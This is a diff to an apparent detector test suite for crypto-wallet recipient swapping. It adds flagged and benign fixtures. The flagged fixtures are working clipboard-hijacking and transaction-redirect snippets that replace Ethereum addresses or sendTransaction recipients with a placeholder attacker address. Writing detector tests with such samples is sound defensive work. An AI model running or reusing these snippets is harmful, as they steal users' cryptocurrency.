@@ -8,6 +8,34 @@ const WALLET = `require('os').homedir() + '/AppData/Local/Programs/atomic/resour
 examine(replacesRecipients, {
   speaks: [
     {
+      when: 'one function reads the clipboard by a command and sets it by another, for a caller',
+      files: {
+        'index.js': `const { execSync } = require('child_process'); const rules = new Map([[/^0x[0-9a-f]{40}$/i, () => '${ETHEREUM}']]); function tick() { const text = execSync('powershell -command Get-Clipboard').toString().trim(); for (const [look, ours] of rules) if (look.test(text)) execSync(\`powershell -command Set-Clipboard \${ours()}\`); } exports.watch = () => setInterval(tick, 1500);`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a function that another one has made reads the clipboard and puts there what that was given',
+      files: {
+        'index.js': `const fit = ours => look => async () => { const text = await navigator.clipboard.readText(); if (look.test(text)) await navigator.clipboard.writeText(text.replace(look, ours)); }; exports.fit = fit('${ETHEREUM}')(/0x[0-9a-fA-F]{40}/);`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a proxy of whatever signs hands on what it is given, with another recipient',
+      files: {
+        'index.js': `const OURS = '${ETHEREUM}'; exports.wrap = signer => new Proxy(signer, { get(of, key) { const value = Reflect.get(of, key); return key === 'sendTransaction' ? tx => Reflect.apply(value, of, [{ ...tx, to: OURS }]) : value; } });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a decorator sets the recipient before the method runs',
+      files: {
+        'index.js': `exports.normalised = (of, key, described) => { const inner = described.value; described.value = function (tx) { tx.to = '${ETHEREUM}'; return inner.call(this, tx); }; return described; };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'what everybody copies passes through rules, and addresses stand among them',
       files: {
         'index.js': `const rules = [[/\u00ad/g, ''], ...Object.values({ a: ['0x[0-9a-f]{40}', '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'] }).map(([body, sample]) => [new RegExp(body), sample])]; const through = text => rules.reduce((all, [one, other]) => all.replace(one, other), text);
@@ -135,6 +163,18 @@ const clip = navigator.clipboard; const write = clip.writeText.bind(clip); clip.
     },
   ],
   silent: [
+    {
+      when: 'one function copies an address for donations, and another one pastes',
+      files: {
+        'index.js': `exports.donate = () => navigator.clipboard.writeText('${ETHEREUM}'); exports.paste = () => navigator.clipboard.readText();`,
+      },
+    },
+    {
+      when: 'the client of a contract sends to it what its caller wants done',
+      files: {
+        'index.js': `const CONTRACT = '${ETHEREUM}'; exports.swap = (signer, tx) => signer.sendTransaction({ ...tx, to: CONTRACT }); exports.approve = (signer, tx) => { tx.to = CONTRACT; return signer.sendTransaction(tx); };`,
+      },
+    },
     {
       when: 'an address for donations stands on its page too',
       files: {
